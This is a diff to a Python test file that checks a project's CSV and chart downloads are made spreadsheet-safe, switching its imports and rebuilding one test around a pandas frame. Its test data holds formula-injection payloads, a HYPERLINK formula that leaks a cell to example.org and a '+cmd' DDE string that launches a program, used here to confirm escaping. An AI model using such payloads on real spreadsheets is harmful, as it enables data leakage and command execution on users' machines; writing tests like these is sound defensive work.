@@ -5,11 +5,12 @@ from __future__ import annotations
 import csv
 import io
 
+import pandas as pd
 import pytest
-from tracingbook.sphinx.chart_table import csv_text as chart_csv_text
-from tracingbook.sphinx.chart_table import figure_tables
 
+from tracingbook.page.charts import figure_table
 from tracingbook.page.downloads import csv_text, safe_csv_file, spreadsheet_safe
+from tracingbook.sphinx.chart_files import csv_text as chart_csv_text
 
 FORMULAS = [
     '=HYPERLINK("https://example.org/?leak="&A1,"click")',
@@ -51,15 +52,7 @@ def test_a_data_file_is_rewritten_only_when_a_cell_needs_it() -> None:
 
 
 def test_a_charts_csv_is_spreadsheet_safe() -> None:
-    spec = {
-        "mark": "bar",
-        "data": {"values": [{"who": "+cmd|' /C calc'!A0", "n": -5}, {"who": "Home Office", "n": 3}]},
-        "encoding": {
-            "tooltip": [
-                {"field": "who", "type": "nominal", "title": "Who"},
-                {"field": "n", "type": "quantitative", "title": "Requests"},
-            ]
-        },
-    }
-    rows = list(csv.reader(io.StringIO(chart_csv_text(figure_tables(spec)))))
+    frame = pd.DataFrame({"who": ["+cmd|' /C calc'!A0", "Home Office"], "n": [-5, 3]})
+    spec = {"mark": "bar", "usermeta": {"figures": figure_table(frame, "who:N n:Q", who="Who", n="Requests")}}
+    rows = list(csv.reader(io.StringIO(chart_csv_text(spec))))
     assert rows == [["Who", "Requests"], ["'+cmd|' /C calc'!A0", "-5"], ["Home Office", "3"]]
